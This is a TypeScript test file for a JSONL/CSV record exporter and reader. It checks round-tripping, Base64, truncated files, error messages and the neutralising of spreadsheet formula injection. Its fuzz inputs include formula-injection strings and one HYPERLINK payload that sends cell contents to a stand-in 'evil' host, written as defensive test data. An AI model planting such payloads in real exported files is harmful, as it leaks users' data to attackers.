// Files of records: whatever a record holds comes back as it was, and what is no record is named by its line.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { base64Of, bytesOfBase64 } from '../../src/export/base64.ts';
import type { ExportedRecord } from '../../src/export/record.ts';
import { headOf, lineOf, RecordLines } from '../../src/export/recordLines.ts';
import { hashKeyMax } from '../../src/kinesis/hashKey.ts';
import type { ExportFormat } from '../../src/protocol/export.ts';

const formats: readonly ExportFormat[] = ['jsonl', 'csv'];
const utf8 = new TextEncoder();

/** Lines as a reader of files hands them out: split at line feeds, a carriage return before one taken off. */
function linesOf(text: string): Uint8Array[] {
  return text.split('\n').map((line) => utf8.encode(line.replace(/\r$/, '')));
}

function read(text: string): ExportedRecord[] {
  const lines = new RecordLines('orders.jsonl');
  const all = linesOf(text);
  return all.flatMap((line, at) => lines.read(line, at < all.length - 1) ?? []);
}

const written = (format: ExportFormat, records: readonly ExportedRecord[]): string =>
  headOf(format) + records.map((record) => lineOf(format, record)).join('');

/** What breaks lines, fields, texts and spreadsheets. */
const nasty = fc.constantFrom(
  ...['"', '""', ',', ';', '\n', '\r', '\r\n', '\0', '\t', ' ', '\\', '\ufeff', '\u2028', '\x7f'],
  ...[
    ';=1',
    '; @A1',
    ';"+1"',
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\uff1d1',
    '\ud800',
    '\udc00',
    '😀',
    '{',
    '}',
    "'",
    'data',
  ],
);
const text = fc
  .array(fc.oneof(nasty, fc.string({ unit: 'binary', maxLength: 8 })), { maxLength: 12 })
  .map((parts) => parts.join(''));

const record: fc.Arbitrary<ExportedRecord> = fc.record(
  {
    shardId: fc.nat({ max: 9999 }).map((n) => `shardId-${String(n).padStart(12, '0')}`),
    sequenceNumber: fc.bigInt({ min: 0n, max: 2n ** 186n }).map(String),
    arrivedMs: fc.integer({ min: 0, max: 8_640_000_000_000_000 }),
    partitionKey: text.map((key) => key.slice(0, 256)),
    data: fc.oneof(
      fc.uint8Array({ maxLength: 64 }),
      text.map((value) => utf8.encode(value)),
    ),
    subSequenceNumber: fc.nat(),
    explicitHashKey: fc.bigInt({ min: 0n, max: hashKeyMax }).map(String),
  },
  { requiredKeys: ['shardId', 'sequenceNumber', 'arrivedMs', 'partitionKey', 'data'] },
);

describe.each(formats)('%s', (format) => {
  test('every record comes back as it was, from one line', () => {
    fc.assert(
      fc.property(fc.array(record, { maxLength: 8 }), (records) => {
        const file = written(format, records);
        // Through the bytes of a file, which hold no lone surrogates.
        const stored = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(
          utf8.encode(file),
        );
        expect(stored).toBe(file);
        expect(file.split('\n')).toHaveLength(records.length + (format === 'csv' ? 2 : 1));
        expect(read(stored)).toEqual(records);
      }),
      { numRuns: 2000 },
    );
  });

  test('data is text where that gives its bytes again, else Base64', () => {
    const of = (data: Uint8Array) =>
      lineOf(format, { shardId: 's', sequenceNumber: '1', arrivedMs: 0, partitionKey: 'k', data });
    expect(of(utf8.encode('{"a":1}'))).toContain(format === 'csv' ? '{""a"":1}' : '{\\"a\\":1}');
    expect(of(utf8.encode('\ufeffabc'))).toContain('abc');
    expect(of(Uint8Array.of(0xff, 0xfe))).toContain('//4=');
    expect(of(Uint8Array.of(0xed, 0xa0, 0x80))).toContain('7aCA');
  });

  test('a record of 10 MiB comes back, as text and as bytes', () => {
    const size = 10 * 1024 * 1024;
    for (const data of [new Uint8Array(size).fill(0x41), new Uint8Array(size).fill(0xff)]) {
      const large = { shardId: 's', sequenceNumber: '1', arrivedMs: 5, partitionKey: 'k', data };
      const [back] = read(written(format, [large]));
      expect(Buffer.compare(back!.data, data)).toBe(0);
    }
  });

  test('empty lines and other columns do no harm', () => {
    const one = { shardId: 's', sequenceNumber: '1', arrivedMs: 5, partitionKey: 'k' };
    const records = [{ ...one, data: utf8.encode('a') }];
    expect(read(`${written(format, records)}\r\n\n`)).toEqual(records);
  });

  test('a key of 256 characters comes back, and one more is too long', () => {
    const of = (partitionKey: string) =>
      written(format, [
        { shardId: 's', sequenceNumber: '1', arrivedMs: 5, partitionKey, data: utf8.encode('x') },
      ]);
    const key = '😀'.repeat(256);
    expect(read(of(key))).toMatchObject([{ partitionKey: key }]);
    expect(() => read(of(`${key}x`))).toThrow('up to 256 characters');
  });

  test('a file that is cut anywhere has its first records as they were, or is refused', () => {
    fc.assert(
      fc.property(fc.array(record, { minLength: 1, maxLength: 3 }), fc.nat(), (records, place) => {
        const whole = written(format, records);
        const file = whole.slice(headOf(format).length);
        const end = headOf(format).length + (place % file.length);
        let found: ExportedRecord[];
        try {
          found = read(whole.slice(0, end));
        } catch {
          return;
        }
        expect(found).toEqual(records.slice(0, found.length));
      }),
      { numRuns: 2000 },
    );
  });
});

/** The fields of one line, a character at a time. */
function fieldsOf(line: string): string[] {
  const fields: string[] = [];
  let field = '';
  let isQuoted = false;
  for (let at = 0; at < line.length; at++) {
    const is = line[at]!;
    if (is === '"' && isQuoted && line[at + 1] === '"') field += line[++at];
    else if (is === '"') isQuoted = !isQuoted;
    else if (is === ',' && !isQuoted) {
      fields.push(field);
      field = '';
    } else field += is;
  }
  return [...fields, field];
}

test('no key and no data of a CSV begins as a formula does', () => {
  fc.assert(
    fc.property(record, (one) => {
      const line = written('csv', [one]).split('\r\n')[1];
      const [, , , , key, , data, base64, ...none] = fieldsOf(line!);
      expect(none).toEqual([]);
      for (const field of [key, data])
        expect(field).not.toMatch(/^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
      // A plus sign may be its first letter, but no call is written with these.
      expect(base64).toMatch(/^[A-Za-z0-9+/]*={0,2}$/);
    }),
    { numRuns: 1000 },
  );
});

test('no key and no data of a CSV becomes a formula where a semicolon takes lines apart', () => {
  fc.assert(
    fc.property(record, (one) => {
      const { partitionKey, data } = one;
      const plain = { shardId: 's', sequenceNumber: '1', arrivedMs: 0 };
      const line = written('csv', [{ ...plain, partitionKey, data }]).split('\r\n')[1]!;
      for (const cell of line.split(/[;\t]/)) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/);
    }),
    { numRuns: 2000 },
  );
  const data = utf8.encode('x;=HYPERLINK("http://evil/?"&A1);y');
  const hostile = { shardId: 's', sequenceNumber: '1', arrivedMs: 0, partitionKey: 'a;b', data };
  const file = written('csv', [hostile]);
  expect(file).toContain(',a;b,');
  expect(file).toContain('\\u003b=HYPERLINK');
  expect(read(file)).toEqual([hostile]);
});

test('the last line of a CSV needs an end only where something of it could be missing', () => {
  const base = { shardId: 's', sequenceNumber: '1', arrivedMs: 0, partitionKey: 'k' };
  const text = written('csv', [{ ...base, data: utf8.encode('a,b') }]);
  expect(read(text.trimEnd())).toHaveLength(1);
  const bytes = written('csv', [{ ...base, data: Uint8Array.of(0xff) }]);
  expect(() => read(bytes.trimEnd())).toThrow(
    'Line 2 of orders.jsonl is no record: no line break follows, so it may have been cut off; if the file is whole, add a line break at its end.',
  );
  const others = bytes.replace('\r\n', ',more\r\n').replace(/\r\n$/, ',x');
  expect(read(others)).toHaveLength(1);
});

describe('what is no record', () => {
  const good = lineOf('jsonl', {
    shardId: 's',
    sequenceNumber: '1',
    arrivedMs: 0,
    partitionKey: 'k',
    data: utf8.encode('x'),
  });
  const spoiled = (change: Record<string, unknown>) =>
    `${good}${JSON.stringify({ ...JSON.parse(good), ...change })}\n`;

  test.each([
    [
      'JSON that is cut',
      `${good}{"shardId":"s"\n`,
      'Line 2 of orders.jsonl is no record: it is no JSON.',
    ],
    ['a list', `${good}[]\n`, 'it is no JSON object'],
    ['no key', spoiled({ partitionKey: undefined }), 'its partitionKey is no text'],
    ['a key that is too long', spoiled({ partitionKey: 'k'.repeat(257) }), 'up to 256 characters'],
    ['no data', spoiled({ data: undefined }), 'it has neither data nor dataBase64'],
    ['data twice', spoiled({ dataBase64: 'eA==' }), 'it has both data and dataBase64'],
    ['broken Base64', spoiled({ data: undefined, dataBase64: 'eB==' }), 'dataBase64 is no Base64'],
    [
      'data that is too long',
      spoiled({ data: 'x'.repeat(10 * 1024 * 1024 + 1) }),
      '10 MiB at most',
    ],
    ['data with half a character', spoiled({ data: '\ud800' }), 'no text that UTF-8 could hold'],
    ['a rounded number', spoiled({ sequenceNumber: '4.96E+55' }), 'no whole number in digits'],
    ['another form of a time', spoiled({ arrived: '2026-11-28' }), 'its arrived is no time like'],
    ['a hash key that is too large', spoiled({ explicitHashKey: `${2n ** 128n}` }), '2^128'],
    [
      'neither format',
      'a line\n',
      'Line 1 of orders.jsonl is no record: it begins neither as JSON',
    ],
    ['another CSV', 'a,b\r\n1,2\r\n', 'nor with the names of columns'],
    ['a field too few', `${headOf('csv')}a,b\r\n`, 'it has 2 fields, and the header has 8'],
    ['a quotation mark that is open', `${headOf('csv')}"a\r\n`, 'a quotation mark is not closed'],
    ['text behind a field', `${headOf('csv')}"a"b\r\n`, 'something follows a quotation mark'],
  ])('is named with its line: %s', (_, file, message) => {
    expect(() => read(file)).toThrow(message);
  });

  test('bytes that are not UTF-8 are named too', () => {
    const lines = new RecordLines('orders.jsonl');
    expect(() => lines.read(Uint8Array.of(0x7b, 0xff))).toThrow('it is not in UTF-8');
  });
});

test('Base64 is what others write and read, and nothing else is read', () => {
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 40 }), (data) => {
      const letters = Buffer.from(data).toString('base64');
      expect(base64Of(data)).toBe(letters);
      expect(bytesOfBase64(letters)).toEqual(data);
    }),
  );
  for (const wrong of ['A', 'AA', 'A===', 'AB==', 'AAB=', 'AA=A', 'A A=', 'ä===', '====']) {
    expect(bytesOfBase64(wrong), wrong).toBeUndefined();
  }
});
